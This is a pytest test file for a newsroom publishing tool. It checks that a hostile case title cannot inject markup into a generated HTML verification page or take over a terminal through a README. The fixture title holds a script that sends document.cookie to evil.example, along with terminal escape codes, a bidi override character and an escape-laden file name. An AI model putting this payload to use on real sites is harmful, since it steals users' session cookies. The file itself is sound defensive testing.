"""Row 66: an edition that attacks its reader with what is written in it."""

import json
import re
from html.parser import HTMLParser

import pytest

from editions import ALL_SHOWN, publish
from evidence_chain import kinds
from evidence_db.case import Case
from evidence_db.recording.writer import Writer

TITLE = "</title><script>fetch('//evil.example/'+document.cookie)</script>\x1b]0;owned\x07\u202e"


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []
        self.policies = []

    def handle_starttag(self, tag, attrs):
        self.found.append(tag)
        said = dict(attrs)
        if said.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(said["content"])
        assert not {"src", "href", "style"} & said.keys()
        assert not any(name.startswith("on") for name in said)


def tags(page):
    parser = Tags()
    parser.feed(page)
    return parser


@pytest.fixture
def hostile(invented, tmp_path):
    with Writer(Case(invented.root), "tester") as writer:
        writer.add(kinds.CASE, {"title": TITLE})
    invented.run("checkpoint")
    words = (*ALL_SHOWN, "--without-files", invented.ids["article"], "--reason", TITLE)
    return publish(invented, tmp_path / "out", words=words)


def test_row_66_a_script_in_a_title_is_no_markup(hostile):
    page = hostile.read("data/verify.html").decode()
    assert "evil.example" not in page  # no word of a case is in it
    assert tags(page).found.count("script") == 1
    assert hostile.check().code == 0


def test_row_66_control_codes_in_a_title_take_over_no_terminal(hostile):
    """The README is read with `cat` and `less` as much as with an editor."""
    text = hostile.read("data/README.txt").decode()
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    assert "<script>" in text  # words, in a file that no browser takes for markup


def test_row_66_the_metadata_for_datasette_has_no_markup_of_the_case(hostile):
    said = json.loads(hostile.read("data/datasette-metadata.json"))
    assert said["title"].startswith("</title><script>")  # Datasette escapes titles
    assert not any("html" in key and TITLE in str(value) for key, value in said.items())


def test_row_66_the_page_asks_for_nothing_from_anywhere(edition):
    found = tags(edition.read("data/verify.html").decode())
    (policy,) = found.policies
    assert policy.startswith("default-src 'none';")
    assert not re.search("https?:|[*]|'self'|'unsafe", policy)
    assert not {"img", "link", "iframe", "base", "a"} & set(found.found)


def test_row_66_readers_are_told_to_take_the_verifier_from_elsewhere(edition):
    words = " ".join(edition.read("data/README.txt").decode().split())
    assert "A verifier should come from elsewhere than what it checks" in words
    assert "Take the newsroom's verifier key from somewhere else than from here" in words
    page = " ".join(edition.read("data/verify.html").decode().split())
    assert "Take it, and the newsroom's key, from elsewhere than from what you check" in page


def test_row_66_what_check_prints_is_harmless(hostile, invented):
    hostile.write("data/site/\x1b[2Jpage", b"")
    said = invented.run("check", hostile.path, "--key", invented.vkey, code=1).output
    assert "\x1b" not in said
    assert "no name in an edition has" in " ".join(said.split())
